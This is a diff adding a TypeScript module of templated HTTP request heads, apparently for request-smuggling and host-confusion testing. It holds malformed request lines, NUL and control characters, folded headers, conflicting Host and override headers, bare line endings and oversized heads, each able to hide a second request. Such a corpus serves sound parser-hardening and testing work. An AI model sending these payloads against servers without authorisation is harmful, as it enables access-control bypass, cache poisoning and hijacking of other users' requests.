@@ -1,0 +1,246 @@
+/** Heads that two readers may part in different lines, or read to another host or target; forms as in smuggling-tricks.ts. */
+import type { Trick } from './smuggling-tricks.ts'
+
+const HEAD = '$M $T HTTP/1.1\r\nHost: a\r\n'
+const HIDING = 'Content-Length: $N\r\n\r\n$H'
+
+const TARGETS = [
+  ...[
+    'http://a$T',
+    'http://b$P',
+    'http://a$P',
+    'HTTP://A$T',
+    'https://a$P',
+    'http:$P',
+    'http:/$P',
+    'a$P',
+    '//b$P',
+  ],
+  ...[
+    '/$P',
+    '$T#$P',
+    '$T?$P',
+    '$T;$P',
+    '$T\\..$P',
+    '$T/..$P',
+    '$T%0d%0aX:',
+    '$T%00',
+    '$T\0',
+    '$T\x7f',
+    '$T\x80',
+    '*',
+  ],
+  ...[
+    '$P',
+    '%2f$P',
+    '$T%20HTTP/1.1',
+    '$T\tHTTP/1.1',
+    '$T\x0b',
+    '',
+    'a:80',
+    '$T|$P',
+    '$T"',
+    "$T'",
+    '$T<>',
+    '$T{}',
+    '$T^`',
+  ],
+]
+
+const VERSIONS = [
+  ...[
+    'HTTP/1.2',
+    'HTTP/1.10',
+    'HTTP/01.1',
+    'HTTP/1.1 ',
+    'HTTP/1.1\t',
+    'HTTP/2.0',
+    'HTTP/0.9',
+    'http/1.1',
+    'HTTP/1',
+    '',
+  ],
+  ...[
+    'HTTP/1.1 HTTP/1.1',
+    'HTTP/1.1\0',
+    'HTTP /1.1',
+    'HTTP/1. 1',
+    'ICE/1.0',
+    'HTTP/1.1x',
+    'HTTP/+1.1',
+    'HTTP/1.1\x0b',
+  ],
+]
+
+const NUL_LINES = [
+  ...['X\0: y', 'X: \0', 'X: y\0', '\0X: y', 'X:\0y', 'Host\0: b', 'X: y\0\r\nContent-Length: 0', '\0'],
+  ...[
+    'X\x01: y',
+    'X: \x01',
+    'X: \x7f',
+    'X\x7f: y',
+    'X\x80: y',
+    'X: \x80\xff',
+    'X(: y',
+    'X: \x08',
+    'X\x0b: y',
+    '"X": y',
+  ],
+]
+
+const FOLDS = [
+  ...[
+    'X: y\r\n z',
+    'X: y\r\n\tz',
+    'X:\r\n y',
+    'X: y\r\n ',
+    'X: y\r\n \r\n z',
+    'X: y\r\n Content-Length: 0',
+    ' X: y',
+  ],
+  ...[
+    '\tX: y',
+    'X: y\r\n\t$M $P HTTP/1.1',
+    'Content-Length:\r\n 0',
+    'Host:\r\n b',
+    'X: y\n z',
+    'X: y\r z',
+    '\x0bX: y',
+  ],
+]
+
+const NAMES = [
+  'X : y',
+  'X\t: y',
+  ': y',
+  'X',
+  'X y: z',
+  'X;: y',
+  '',
+  'X:: y',
+  'X=y',
+  '@: y',
+  'X\r\n: y',
+  'X,Y: z',
+  'X/Y: z',
+]
+
+const HOSTS = [
+  ...[
+    'Host: b',
+    'Host: a',
+    'Host:',
+    'host: b',
+    'Host : b',
+    ' Host: b',
+    'Host\t: b',
+    'X: y\rHost: b',
+    'X: y\nHost: b',
+  ],
+  ...[
+    'Host: a, b',
+    'Host: a b',
+    'Host: a/b',
+    'Host: u@b',
+    'Host: a:80:80',
+    'Host: a\0',
+    'Host: a#b',
+    'Host: [::1',
+    'Host\0: b',
+  ],
+  ...['X-Forwarded-Host: b', 'Host: a\r\n b', 'Forwarded: host=b', 'X-Original-URL: $P', 'X-Rewrite-URL: $P'],
+  ...['X-HTTP-Method-Override: PUT'],
+]
+
+const alone = (lines: readonly string[]) => lines.map((line) => `$M $T HTTP/1.1\r\n${line}\r\n${HIDING}`)
+
+export const HEADS: readonly Trick[] = [
+  { name: 'targets', forms: TARGETS.map((target) => `$M ${target} HTTP/1.1\r\nHost: a\r\n${HIDING}`) },
+  { name: 'versions', forms: VERSIONS.map((version) => `$M $T ${version}\r\nHost: a\r\n${HIDING}`) },
+  {
+    name: 'NUL and other controls',
+    forms: NUL_LINES.map((line) => ({ lines: [line, 'Content-Length: $N'], body: '$H' })),
+  },
+  { name: 'folded lines', forms: FOLDS.map((line) => ({ lines: [line, 'Content-Length: $N'], body: '$H' })) },
+  { name: 'odd names', forms: NAMES.map((line) => ({ lines: [line, 'Content-Length: $N'], body: '$H' })) },
+  {
+    name: 'hosts beside a host',
+    forms: HOSTS.map((line) => ({ lines: [line, 'Content-Length: $N'], body: '$H' })),
+  },
+  { name: 'hosts', forms: alone([...HOSTS, 'X: y']) },
+  {
+    name: 'absolute-form against Host',
+    forms: [
+      'http://b$T',
+      'http://b$P',
+      'http://a$P',
+      'http://a:80$P',
+      'http://',
+      'http://u@b$P',
+      'http://b?$P',
+    ].map((target) => `$M ${target} HTTP/1.1\r\nHost: a\r\n\r\n$H`),
+  },
+  {
+    name: 'bare line ends',
+    forms: [
+      '$M $T HTTP/1.1\nHost: a\nContent-Length: $N\n\n$H',
+      '$M $T HTTP/1.1\rHost: a\rContent-Length: $N\r\r$H',
+      '$M $T HTTP/1.1\nHost: a\r\n\r\n$H',
+      '$M $T HTTP/1.1\rHost: a\r\n\r\n$H',
+      `${HEAD}X: y\n\r\n$H`,
+      `${HEAD}X: y\r\r\n\r\n$H`,
+      `${HEAD}X: y\n\n$H`,
+      `${HEAD}X: y\r\n\n$H`,
+      `${HEAD}X: y\r\n\r$H`,
+      `${HEAD}X: y\r\n\r\r\n$H`,
+      `${HEAD}X: y\r\n\r\0\n$H`,
+      `${HEAD}X: y\r\rContent-Length: 0\r\n${HIDING}`,
+      `${HEAD}X: y\r${HIDING}`,
+      `${HEAD}X: y\n${HIDING}`,
+      `${HEAD}X: y\n\r${HIDING}`,
+      `${HEAD}X: \r\n\r\n$H`,
+      `${HEAD}\r${HIDING}`,
+      `${HEAD}X: y\r\n\r $H`,
+      `\r${HEAD}${HIDING}`,
+      `\n${HEAD}${HIDING}`,
+      `\r\n${HEAD}${HIDING}`,
+      `\r\n\r\n\r\n${HEAD}\r\n$H`,
+      `${HEAD}${HIDING}\r\n\r\n$H`,
+      `${HEAD}${HIDING}\n$H`,
+      `${HEAD}X: y\x85\r\n\x0c\r\n$H`,
+    ],
+  },
+  {
+    name: 'request lines',
+    forms: [
+      `$M  $T HTTP/1.1\r\nHost: a\r\n${HIDING}`,
+      `$M\t$T HTTP/1.1\r\nHost: a\r\n${HIDING}`,
+      `$M $T  HTTP/1.1\r\nHost: a\r\n${HIDING}`,
+      ` $M $T HTTP/1.1\r\nHost: a\r\n${HIDING}`,
+      `$M\x0b$T HTTP/1.1\r\nHost: a\r\n${HIDING}`,
+      `$M $T\r\n$H`,
+      `$M $T\r\n\r\n$H`,
+      `$M\0 $T HTTP/1.1\r\nHost: a\r\n${HIDING}`,
+      `$M, $T HTTP/1.1\r\nHost: a\r\n${HIDING}`,
+      `$M\r\n $T HTTP/1.1\r\nHost: a\r\n${HIDING}`,
+      `get $T HTTP/1.1\r\nHost: a\r\n${HIDING}`,
+      `CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n$H`,
+      `CONNECT $T HTTP/1.1\r\nHost: a\r\n\r\n$H`,
+      `TRACE $T HTTP/1.1\r\nHost: a\r\n\r\n$H`,
+      `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n$H`,
+      `PRI * HTTP/1.1\r\nHost: a\r\n\r\n$H`,
+      `OPTIONS * HTTP/1.1\r\nHost: a\r\nContent-Length: $N\r\n\r\n$H`,
+      `\x16\x03\x01\0\x05$H`,
+      `QUIT\r\n$H`,
+      `EHLO host\r\n$H`,
+      `${'A'.repeat(33)} $T HTTP/1.1\r\nHost: a\r\n${HIDING}`,
+    ],
+  },
+  {
+    name: 'heads around the limit',
+    forms: [4_000, 7_900, 8_100, 16_000, 16_200, 16_400, 17_000, 33_000].flatMap((size) => [
+      `${HEAD}X: ${'x'.repeat(size)}\r\n${HIDING}`,
+      `${HEAD}X: ${'x'.repeat(size)}\r\n\r\n$H`,
+    ]),
+  },
+]
